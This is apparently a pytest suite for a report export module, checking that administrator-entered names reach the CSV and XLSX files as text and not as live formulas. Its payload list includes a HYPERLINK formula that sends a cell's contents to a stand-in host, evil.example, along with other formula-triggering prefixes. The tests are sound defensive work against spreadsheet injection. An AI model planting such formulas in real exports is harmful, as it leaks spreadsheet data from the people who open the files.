"""Names an administrator typed reach the CSV and XLSX as text, never as a formula (issue 15, finding 6)."""

from __future__ import annotations

import csv
import dataclasses
import io

import openpyxl
import pytest

from feedback.domain.report_figures import Figures, Line
from reporting.csv_export import report_to_csv
from reporting.formula_text import FORMULA_STARTS, neutralise_formula
from reporting.xlsx_export import report_to_xlsx
from tests.unit.test_report_exports import REPORT

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1", "＝1+1"]


@pytest.mark.parametrize("name", EVIL)
def test_a_formula_in_a_name_is_text_in_the_csv(name: str) -> None:
    report = dataclasses.replace(REPORT, by_unit=(Line("XA", name, Figures(received=1)),))
    rows = list(csv.reader(io.StringIO(report_to_csv(report).removeprefix("\ufeff"))))
    cells = [row[2] for row in rows if row[1] == "XA"]
    assert cells == ["'" + name]


@pytest.mark.parametrize("name", EVIL[:4])
def test_a_formula_in_a_name_is_text_in_the_workbook(name: str) -> None:
    report = dataclasses.replace(REPORT, by_unit=(Line("XA", name, Figures(received=1)),))
    workbook = openpyxl.load_workbook(io.BytesIO(report_to_xlsx(report)))
    cells = [cell for row in workbook.worksheets[0].iter_rows() for cell in row if cell.value == name]
    assert cells and all(cell.data_type == "s" for cell in cells)


@pytest.mark.parametrize("text", ["UBND xã Tân Lập", "1.001193", "", "Phòng Tư pháp – Hộ tịch", "a=b"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert neutralise_formula(text) == text


@pytest.mark.parametrize("evil", EVIL)
def test_no_cell_of_any_table_in_the_csv_starts_a_formula(evil: str) -> None:
    """Every breakdown, every text column: unit, field and procedure names and codes come from administrators
    and imports, and the scope line names the unit."""
    report = dataclasses.replace(
        REPORT,
        unit="XA",
        unit_name=evil,
        by_unit=(Line("XA", evil, Figures(received=1)),),
        by_field=(Line(evil, evil, Figures(received=1)),),
        by_procedure=(Line(evil, evil, Figures(received=1)), Line("1.001", evil, Figures(received=1))),
    )
    rows = list(csv.reader(io.StringIO(report_to_csv(report).removeprefix("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert sum(evil in cell for cell in cells) >= 6
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
